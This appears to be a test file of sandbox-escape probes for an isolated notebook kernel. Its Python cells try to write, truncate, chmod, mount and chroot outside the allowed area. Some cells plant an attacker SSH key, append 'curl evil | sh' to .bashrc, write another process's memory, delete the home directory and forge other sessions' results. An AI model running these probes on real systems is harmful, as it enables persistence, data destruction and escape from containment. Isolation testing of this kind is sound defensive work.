# %% overwrite | changed
open(aim.victim, "w").write("mine")

# %% append | changed
with open(aim.home + "/.ssh/authorized_keys", "a") as file:
    file.write("ssh-ed25519 AAAA attacker\n")

# %% in-place | changed
with open(aim.victim, "r+b") as file:
    file.write(b"mine")

# %% start-file | changed
with open(aim.home + "/.bashrc", "a") as file:
    file.write("\ncurl evil | sh\n")

# %% ipython-start-file | changed
os.makedirs(aim.home + "/.ipython/profile_default/startup", exist_ok=True)
open(aim.home + "/.ipython/profile_default/startup/00.py", "w").write("print('owned')")

# %% new-file | changed
open(aim.outside + "/dropped.txt", "w").write("mine")

# %% new-file-by-number | changed
syscall("openat", -100, ctypes.c_char_p(os.fsencode(aim.outside + "/x")), os.O_CREAT | os.O_WRONLY, 0o600)

# %% unnamed-file | changed
descriptor = os.open(aim.outside, os.O_TMPFILE | os.O_WRONLY, 0o600)
libc.linkat(-100, b"/proc/self/fd/%d" % descriptor, -100, os.fsencode(aim.outside + "/named"), 0x400)

# %% truncate | changed
os.truncate(aim.victim, 0)

# %% truncate-by-number | changed
syscall("truncate", ctypes.c_char_p(os.fsencode(aim.victim)), 1)

# %% truncate-on-open | changed
os.open(aim.victim, os.O_WRONLY | os.O_TRUNC)

# %% truncate-read-only | changed
os.open(aim.victim, os.O_RDONLY | os.O_TRUNC)

# %% chmod | changed
os.chmod(aim.keys, 0o777)

# %% chmod-by-descriptor | changed
descriptor = os.open(aim.keys, os.O_PATH)
os.chmod(f"/proc/self/fd/{descriptor}", 0o777)

# %% chmod-by-number | changed
syscall("fchmodat", -100, ctypes.c_char_p(os.fsencode(aim.keys)), 0o777)

# %% chmod-by-new-number | changed
syscall("fchmodat2", -100, ctypes.c_char_p(os.fsencode(aim.keys)), 0o777, 0)

# %% chmod-executable | changed
os.chmod(aim.victim, 0o4755)

# %% chown | changed | who=root
os.chown(aim.keys, 65534, 65534)

# %% utime | changed
os.utime(aim.keys, (0, 0))

# %% utime-by-number | changed
syscall("utimensat", -100, ctypes.c_char_p(os.fsencode(aim.keys)), (ctypes.c_long * 4)(1, 0, 1, 0), 0)

# %% extended-attribute | changed
os.setxattr(aim.keys, "user.note", b"mine")

# %% remove-extended-attribute | changed
os.removexattr(aim.keys, "user.note")

# %% unlink | changed
os.unlink(aim.victim)

# %% remove-tree | changed
import shutil
shutil.rmtree(aim.home, ignore_errors=True)

# %% remove-folder | changed
os.rmdir(aim.outside)

# %% rename | changed
os.rename(aim.victim, aim.victim + ".old")

# %% move-out | changed
open("mine.txt", "w").write("mine")
os.rename("mine.txt", aim.victim)

# %% move-folder-out | changed
os.mkdir("mine")
os.rename("mine", aim.outside + "/mine")

# %% make-folder | changed
os.mkdir(aim.outside + "/mine")

# %% symlink-outside | changed
os.symlink("/etc/passwd", aim.outside + "/link")

# %% hard-link-outside | changed
open("mine.txt", "w").write("mine")
os.link("mine.txt", aim.outside + "/mine.txt")

# %% fifo-outside | changed
os.mkfifo(aim.outside + "/fifo")

# %% socket-outside | changed
import stat
os.mknod(aim.outside + "/socket", stat.S_IFSOCK | 0o600)

# %% write-through-symlink | changed
os.symlink(aim.victim, "to.txt")
try:
    open("to.txt", "w").write("mine")
finally:
    os.unlink("to.txt")

# %% write-through-root-link | changed
open("/proc/self/root" + aim.victim, "w").write("mine")

# %% write-through-a-path-descriptor | changed
descriptor = os.open(aim.victim, os.O_PATH)
open(f"/proc/self/fd/{descriptor}", "w").write("mine")

# %% write-through-mmap | changed
import mmap
with open(aim.victim, "r+b") as file, mmap.mmap(file.fileno(), 0) as mapped:
    mapped[0:4] = b"mine"

# %% write-through-a-hard-link | changed
os.link(aim.victim, "linked.txt")
try:
    open("linked.txt", "a").write("mine")
finally:
    os.unlink("linked.txt")

# %% memory-of-another | changed
with open(f"/proc/{aim.pid}/mem", "r+b", buffering=0) as memory:
    memory.seek(aim.address)
    memory.write(b"changed")

# %% pandas-csv | changed
pd.DataFrame({"a": [1]}).to_csv(aim.victim)

# %% pandas-parquet | changed
pd.DataFrame({"a": [1]}).to_parquet(aim.outside + "/a.parquet")

# %% pandas-pickle | changed
pd.DataFrame({"a": [1]}).to_pickle(aim.outside + "/a.pkl")

# %% numpy-save | changed
np.save(aim.outside + "/a.npy", np.arange(3))

# %% numpy-memmap | changed
np.memmap(aim.victim, mode="r+")[:4] = 65

# %% pyarrow-stream | changed
import pyarrow as pa
with pa.OSFile(aim.victim, "wb") as out:
    out.write(b"mine")

# %% duckdb-copy | changed
import duckdb
duckdb.sql(f"copy (select 1) to '{aim.outside}/a.csv'")

# %% duckdb-database | changed
import duckdb
duckdb.connect(aim.outside + "/a.duckdb").execute("create table t as select 1")

# %% polars-csv | changed
import polars
polars.DataFrame({"a": [1]}).write_csv(aim.outside + "/a.csv")

# %% sqlite | changed
import sqlite3
with sqlite3.connect(aim.sqlite) as connection:
    connection.execute("delete from people")

# %% figure | changed
plt.plot([1, 2])
plt.savefig(aim.outside + "/a.png")

# %% log-file | changed
import logging.handlers
handler = logging.FileHandler(aim.outside + "/a.log")
handler.emit(logging.makeLogRecord({"msg": "mine"}))
handler.close()

# %% zip-slip | changed
import io
import zipfile
packed = io.BytesIO()
zipfile.ZipFile(packed, "w").writestr("x", "mine")
archive = zipfile.ZipFile(packed, "a")
archive.writestr("y", "mine")
archive.close()
zipfile.ZipFile(packed).extractall(aim.outside)

# %% temporary-file | changed
import tempfile
tempfile.mkstemp(dir=aim.outside)

# %% own-data | changed | alone
with open("../data/1.arrow", "r+b") as file:
    file.write(b"mine")

# %% own-data-made-writable | changed | alone
os.chmod("../data/1.arrow", 0o666)

# %% own-data-replaced | changed | alone
open("fake.arrow", "wb").write(b"mine")
os.replace("fake.arrow", "../data/1.arrow")

# %% connection-file | changed | alone
text = open("../kernel.json").read() if os.access("../kernel.json", os.R_OK) else "{}"
open("../kernel.json", "w").write(text.replace('"key"', '"yek"'))

# %% other-session | changed
open(aim.other + "/work/result.csv", "a").write("1,forged\n")

# %% other-session-figure | changed
open(aim.other + "/out/e1-figure-1.png", "wb").write(b"forged")

# %% site-packages | changed | who=root
open(os.path.join(aim.library, aim.mark + ".pth"), "w").write("")

# %% standard-library | changed | who=root
import json
open(os.path.join(os.path.dirname(os.path.dirname(json.__file__)), aim.mark + ".py"), "w").write("")

# %% device | won | who=root
import stat
os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(7, 0))
os.unlink("disk")
won()

# %% device-for-letters | won | who=root
import stat
os.mknod("memory", stat.S_IFCHR | 0o600, os.makedev(1, 1))
os.unlink("memory")
won()

# %% kernel-setting | won | who=root
with open("/proc/sys/kernel/core_pattern", "r+") as file:
    same = file.read()
    file.seek(0)
    file.write(same)
won()

# %% kernel-messages | won | who=root
os.open("/dev/kmsg", os.O_WRONLY)
won()

# %% raw-device | won | who=root
os.open("/dev/loop-control", os.O_RDWR)
won()

# %% terminal | won
os.open("/dev/ptmx", os.O_RDWR)
won()

# %% shared-memory | won
with open(f"/dev/shm/{aim.mark}", "w") as file:
    file.write("mine")
os.unlink(f"/dev/shm/{aim.mark}")
won()

# %% own-score | won | who=root
open("/proc/self/oom_score_adj", "w").write("-500")
won()

# %% map-of-users | won | who=root
open("/proc/self/setgroups", "w").write("deny")
won()

# %% chroot | won | who=root alone
before = os.open(".", os.O_RDONLY), os.open("/", os.O_RDONLY)
os.chroot(aim.folder)
os.fchdir(before[1])
os.chroot(".")
os.fchdir(before[0])
won()

# %% mount | won | who=root
let_in("mount", b"none", b"/nowhere-at-all", b"tmpfs", 0, 0)

# %% mount-bound | won | who=root
let_in("mount", ctypes.c_char_p(os.fsencode(aim.folder)), b"/nowhere-at-all", 0, 4096, 0)

# %% mount-new-way | won | who=root
let_in("fsopen", b"tmpfs", 0)

# %% open-tree | won
let_in("open_tree", -100, b".", 0)

# %% open-tree-copy | won | who=root
let_in("open_tree", -100, b"/", 1)

# %% unmount | won | who=root
let_in("umount2", b"/nowhere-at-all", 0)

# %% pivot-root | won | who=root
let_in("pivot_root", b"/nowhere-at-all", b"/nowhere-at-all")

# %% truncate-for-neither | changed
os.open(aim.victim, os.O_ACCMODE | os.O_TRUNC)

# %% truncate-for-neither-by-number | changed | machine=x86_64
syscall("open", ctypes.c_char_p(os.fsencode(aim.victim)), os.O_ACCMODE | os.O_TRUNC)

# %% open-for-neither | won
os.open(aim.victim, os.O_ACCMODE)
won()

# %% device-for-neither | won
os.open("/dev/full", os.O_ACCMODE)
won()

# %% unnamed-file-for-neither | won
os.open(aim.outside, os.O_TMPFILE | os.O_ACCMODE, 0o600)
won()

# %% device-in-the-place-of-a-file | won
open("first", "w").close()
syscall("renameat2", -100, b"first", -100, b"second", 4)
import stat
if stat.S_ISCHR(os.lstat("first").st_mode):
    os.unlink("first")
    won()
